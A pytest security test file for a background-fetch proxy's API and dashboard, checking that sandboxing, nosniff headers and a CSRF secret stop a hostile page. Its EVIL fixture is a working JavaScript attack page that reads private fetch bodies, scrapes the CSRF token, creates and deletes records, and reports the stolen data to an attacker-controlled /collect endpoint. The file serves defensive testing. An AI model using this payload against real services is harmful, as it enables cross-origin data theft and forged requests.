"""No web page takes over the API: stored bodies never run in its origin, state changes need proof.

The attack of the security review, in a real headless chromium through a real proxy: a hostile
page has its own HTML stored under an id of its choosing, then opens that body from the API
(`http://bgfetch.internal/api/fetches/pwn/records/0/body`), hoping its script runs there and
lists the fetches, reads a private body, creates and deletes fetches, and reports home. Beside
it, the same defences checked header by header with httpx, through the proxy and on the
listen port.
"""

import re

import httpx
import pytest
from playwright.sync_api import expect

from harness.poll import eventually
from store.web import forgery
from tests import browser
from tests.test_api import problem_of

API = "http://bgfetch.internal/api"
WAIT_MS = 30_000
PRIVATE = b"victim's statement: account 12345, balance 6789\n"
SECRET_META = re.compile(rb'<meta name="bgfetch-csrf-token" content="([^"]*)">')

# The hostile page. On its own origin it has itself stored as "pwn", tries what a page may try
# across origins, then opens the stored copy from the API. Were that copy to run there, the
# payload would list, read, create, delete, and send everything to /collect.
EVIL = """<!doctype html><meta charset="utf-8"><title>cute cats</title>
<script>
const HOME = "http://127.0.0.1:PORT", API = "http://bgfetch.internal/api";
function report(path, what, value) {
  const url = HOME + path + "?" + what + "=" + encodeURIComponent(String(value).slice(0, 300));
  return fetch(url, {mode: "no-cors", cache: "no-store"}).catch(() => null);
}
async function attempt(what, run) {
  try { const r = await run(); await report("/progress", what, r && r.status); }
  catch (error) { await report("/progress", what, "refused"); }
}
async function payload() {  // what would run in the API's origin
  await report("/collect", "origin", location.origin);
  const read = async (path) => report("/collect", path, await (await fetch(path)).text());
  await read("/api/fetches?all=1").catch(() => null);
  await read("/api/fetches/private/records/0/body").catch(() => null);
  const page = await (await fetch("/")).text().catch(() => "");  // the dashboard's secret, if it showed
  const secret = (page.match(/csrf-token" content="([^"]*)"/) || ["", ""])[1];
  const json = {"Content-Type": "application/json", "Bgfetch-Csrf-Token": secret};
  await fetch("/api/fetches", {method: "POST", headers: json,
    body: JSON.stringify({id: "planted", requests: [HOME + "/collect?planted"]})}).catch(() => null);
  await fetch("/api/fetches/keep", {method: "DELETE", headers: json}).catch(() => null);
  await report("/collect", "done", 1);
}
async function stage() {  // on the hostile origin
  await fetch(location.href, {headers: {"Background-Fetch": 'id="pwn"'}, cache: "no-store"});
  await report("/progress", "stored", 1);
  const planted = JSON.stringify({id: "planted", requests: [HOME + "/collect?planted"]});
  await attempt("no-cors-post", () => fetch(API + "/fetches", {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "application/json"}, body: planted}));
  await attempt("cors-post", () => fetch(API + "/fetches", {method: "POST",
    headers: {"Content-Type": "application/json"}, body: planted}));
  await attempt("cors-delete", () => fetch(API + "/fetches/keep", {method: "DELETE"}));
  await attempt("list", async () => { await report("/collect", "ids", await (await fetch(API + "/fetches?all=1")).text()); });
  await attempt("read", async () => { await report("/collect", "private", await (await fetch(API + "/fetches/private/records/0/body")).text()); });
  const form = document.createElement("form");
  form.method = "post"; form.enctype = "text/plain"; form.target = "sink";
  form.action = API + "/fetches/keep/abort";
  const sink = document.createElement("iframe");
  sink.name = "sink";
  document.body.append(sink, form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 500));
  await report("/progress", "navigating", 1);
  location.href = API + "/fetches/pwn/records/0/body";
}
(location.host === "bgfetch.internal" ? payload : stage)();
</script>
<body>cats</body>
"""


@pytest.fixture(scope="module")
def chromium():
    if why := browser.missing():
        pytest.skip(why)
    with browser.chromium() as instance:
        yield instance


def proxied_context(chromium, proxy):
    """A browser context whose every request goes through the proxy, loopback origins included."""
    return chromium.new_context(proxy={"server": proxy.url, "bypass": "<-loopback>"})


def page_secret(proxy) -> str:
    """The dashboard's secret, as a page load gets it."""
    found = SECRET_META.search(httpx.get(proxy.api_url("/"), timeout=10).content)
    assert found and found.group(1), "the dashboard holds no secret"
    return found.group(1).decode()


def seen(origin, path: str) -> list[str]:
    return [r.target for r in origin.requests if r.path == path]


def test_a_hostile_page_cannot_take_over_the_api(origin, proxy, chromium):
    origin.add("/private.bin", data=PRIVATE, content_type="text/plain")
    origin.add("/keep.bin", size=5000)
    origin.add("/evil.html", data=EVIL.replace("PORT", str(origin.port)).encode(), content_type="text/html")
    proxy.background(origin.url("/private.bin"), 'id="private"', {"Cookie": "session=victim"})
    assert proxy.api("POST", "/api/fetches", json={"id": "keep", "requests": [origin.url("/keep.bin")]}).status_code == 201
    for reg_id in ("private", "keep"):
        proxy.wait_for(reg_id, result="success")

    context = proxied_context(chromium, proxy)
    try:
        page = context.new_page()
        committed, downloads = [], []
        page.on("framenavigated", lambda frame: frame == page.main_frame and committed.append(frame.url))
        page.on("download", lambda download: downloads.append(download))
        page.goto(origin.url("/evil.html"))
        eventually(  # the body's fate; playwright's events arrive while the page waits
            lambda: downloads or "/collect?done=1" in seen(origin, "/collect"), WAIT_MS / 1000, interval=0.1,
            pause=lambda seconds: page.wait_for_timeout(seconds * 1000), what="a download or the page's last report",
            explain=lambda _: seen(origin, "/progress"),
        )
        page.wait_for_timeout(2000)  # room for anything that would still run
        assert seen(origin, "/collect") == []  # nothing reached the hostile origin's collector
        # The stored copy came as a file to save, and nothing of it was shown as a page.
        assert [d.url for d in downloads] == [API + "/fetches/pwn/records/0/body"]
        with open(downloads[0].path(), "rb") as saved:
            assert saved.read() == origin.data("/evil.html")
        assert downloads[0].suggested_filename == "evil.html"
        assert not any(url.startswith("http://bgfetch.internal") for url in committed), committed
    finally:
        context.close()

    progress = seen(origin, "/progress")
    assert progress[0] == "/progress?stored=1" and progress[-1] == "/progress?navigating=1"
    assert proxy.registration("pwn")["result"] == "success"  # the page had its HTML stored as pwn
    for step in ("no-cors-post", "cors-post", "cors-delete", "list", "read"):
        assert any(t.startswith(f"/progress?{step}=") for t in progress), (step, progress)
    assert proxy.api("GET", "/api/fetches?all=1").json() == {"ids": ["private", "keep", "pwn"]}
    assert proxy.registration("keep")["result"] == "success"  # neither aborted nor deleted
    assert proxy.api("GET", "/api/fetches/keep/records/0/body").content == origin.data("/keep.bin")


def test_a_record_body_from_the_api_is_a_sandboxed_attachment(origin, proxy):
    origin.add("/page.html", data=b"<script>alert(1)</script>", content_type="text/html")
    proxy.background(origin.url("/page.html"), 'id="page"')
    proxy.wait_for("page", result="success")
    for response in (
        proxy.api("GET", "/api/fetches/page/records/0/body"),
        proxy.api("HEAD", "/api/fetches/page/records/0/body"),
        proxy.api("GET", "/api/fetches/page/records/0/body", headers={"Range": "bytes=0-7"}),
    ):
        assert response.status_code in (200, 206)
        assert response.headers["content-type"] == "text/html"  # the origin's, but never run
        assert response.headers["content-security-policy"].startswith("sandbox")
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-disposition"] == "attachment; filename=\"page.html\"; filename*=UTF-8''page.html"
        assert response.headers["cross-origin-resource-policy"] == "same-origin"
    # Served to a proxy client on its own URL, the body is as the origin sent it.
    with proxy.client() as client:
        own = client.get(origin.url("/page.html"))
    assert own.content == origin.data("/page.html") and origin.count("/page.html") == 1
    assert not {"content-security-policy", "x-content-type-options", "content-disposition"} & set(own.headers)


def test_every_api_and_dashboard_answer_is_nosniff(proxy):
    with proxy.client() as client:
        answers = [
            client.get(f"{API}/fetches"), client.get(f"{API}/fetches/nope"), client.get(f"{API}/openapi.json"),
            client.get("http://bgfetch.internal/"), client.get("http://bgfetch.internal/nowhere"),
            client.post(f"{API}/fetches", content=b"{", headers={"Content-Type": "application/json"}),
        ]
    answers.append(proxy.api("GET", "/"))
    assert [a.headers.get("x-content-type-options") for a in answers] == ["nosniff"] * len(answers)


def test_a_browsers_state_change_needs_the_dashboards_secret(origin, proxy):
    origin.add("/a.bin", size=1000)
    body = {"id": "made", "requests": [origin.url("/a.bin")]}
    secret = page_secret(proxy)
    with proxy.client() as client:
        for marks in ({"Origin": "http://evil.example"}, {"Sec-Fetch-Site": "cross-site"},
                      {"Origin": "http://bgfetch.internal", "Sec-Fetch-Site": "same-origin"},
                      {"Origin": "null", forgery.HEADER: "guessed"}):
            refused = problem_of(client.post(f"{API}/fetches", json=body, headers=marks), 403)
            assert refused["type"].endswith("/cross-site-request") and forgery.HEADER in refused["detail"]
        assert problem_of(proxy.api("POST", "/api/fetches", json=body, headers={"Origin": "http://x"}), 403)
        assert client.get(f"{API}/fetches?all=1").json() == {"ids": []}
        # The dashboard's secret passes the proxy (it does not start with x-bgfetch-), on both ports.
        with_secret = {"Origin": "http://bgfetch.internal", forgery.HEADER: secret}
        assert client.post(f"{API}/fetches", json=body, headers=with_secret).status_code == 201
        proxy.wait_for("made", result="success")
        assert problem_of(client.delete(f"{API}/fetches/made", headers={"Origin": "http://evil.example"}), 403)
        assert proxy.api("DELETE", "/api/fetches/made", headers={**with_secret, "Origin": "http://127.0.0.1"}).status_code == 204
        # Without the marks of a browser (curl, scripts, the commands) nothing more is needed.
        assert client.post(f"{API}/fetches", json=body).status_code == 201
        assert client.get(f"{API}/fetches/made", headers={"Origin": "http://evil.example"}).status_code == 200


def test_the_secret_goes_only_to_a_page_load_and_the_token_is_proof_enough(origin, make_proxy):
    proxy = make_proxy("bgfetch_token=s3cret").start()
    origin.add("/a.bin", size=1000)
    loads = [httpx.get(proxy.api_url("/"), headers=h, timeout=10) for h in ({}, {"Sec-Fetch-Mode": "navigate"})]
    secrets = {SECRET_META.search(page.content).group(1) for page in loads}
    assert len(secrets) == 1 and len(secrets.pop()) >= 40
    assert loads[1].headers["cross-origin-opener-policy"] == "same-origin"
    for mode in ("cors", "no-cors", "same-origin"):  # a script's fetch of the page
        page = httpx.get(proxy.api_url("/"), headers={"Sec-Fetch-Mode": mode}, timeout=10)
        assert SECRET_META.search(page.content).group(1) == b""
    token = {"Authorization": "Bearer s3cret"}
    marks = {"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"}
    body = {"id": "t", "requests": [origin.url("/a.bin")]}
    assert proxy.api("POST", "/api/fetches", json=body, headers=marks).status_code == 401
    assert proxy.api("POST", "/api/fetches", json=body, headers={**marks, **token}).status_code == 201


def test_the_dashboard_keeps_its_secret_from_its_own_origins_scripts(proxy, chromium):
    # Fetch Metadata holds in a secure context: here the listen port on 127.0.0.1 (or
    # bgfetch.internal over https); over plain http the sandbox of every other answer is the guard.
    with browser.new_page(chromium) as page:
        page.goto(proxy.api_url("/"))
        assert len(page.locator('meta[name="bgfetch-csrf-token"]').get_attribute("content")) >= 40
        fetched = page.evaluate("fetch('/').then((r) => r.text())")
        assert '<meta name="bgfetch-csrf-token" content="">' in fetched
        # Any other answer of the API opened as a page (here, JSON) is a sandbox: an opaque origin.
        page.goto(proxy.api_url("/api/fetches"))
        assert page.evaluate("self.origin") == "null"
        assert page.evaluate("fetch('/').then(() => 'read', () => 'refused')") == "refused"


def test_after_a_store_restart_the_dashboard_reloads_for_the_new_secret(origin, proxy, chromium):
    origin.add("/r.bin", size=1000)
    proxy.background(origin.url("/r.bin"), 'id="r"')
    proxy.wait_for("r", result="success")
    context = proxied_context(chromium, proxy)
    try:
        page = context.new_page()
        page.goto(browser.DASHBOARD)
        item = page.locator('li.fetch[data-id="r"]')
        expect(item.locator(".state")).to_have_text("Complete", timeout=WAIT_MS)
        before = page.locator('meta[name="bgfetch-csrf-token"]').get_attribute("content")
        proxy.stop()
        proxy.start()
        with page.expect_navigation(timeout=WAIT_MS):  # the old secret is refused: the page loads again
            item.get_by_role("button", name=re.compile("^Delete")).click()
        assert page.locator('meta[name="bgfetch-csrf-token"]').get_attribute("content") not in ("", before)
        item.get_by_role("button", name=re.compile("^Delete")).click()
        expect(item).to_have_count(0, timeout=WAIT_MS)
        assert proxy.api("GET", "/api/fetches/r").status_code == 404
    finally:
        context.close()
